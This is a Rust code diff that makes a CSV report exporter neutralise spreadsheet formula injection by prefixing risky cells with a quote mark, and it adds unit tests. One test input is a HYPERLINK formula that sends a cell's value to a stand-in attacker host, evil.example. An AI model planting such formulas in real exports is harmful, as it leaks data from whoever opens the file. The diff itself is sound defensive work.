@@ -325,10 +325,40 @@ impl Report {
     }
 }
 
+/// A CSV cell. A cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return — database values can come from shop customers) gets a
+/// leading `'`, as OWASP recommends, so it is shown as text; a cell with a separator, quote
+/// or line break is quoted.
 fn csv_field(text: &str) -> String {
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_owned()
+        text
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_quoted_cells_stay_quoted() {
+        assert_eq!(csv_field("open"), "open");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&D2,\"open\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&D2,\"\"open\"\")\""
+        );
+        assert_eq!(csv_field("@SUM(1+9)"), "'@SUM(1+9)");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-12.5000"), "'-12.5000");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_field("\rx"), "\"'\rx\"");
+        assert_eq!(csv_field("a=b"), "a=b");
     }
 }
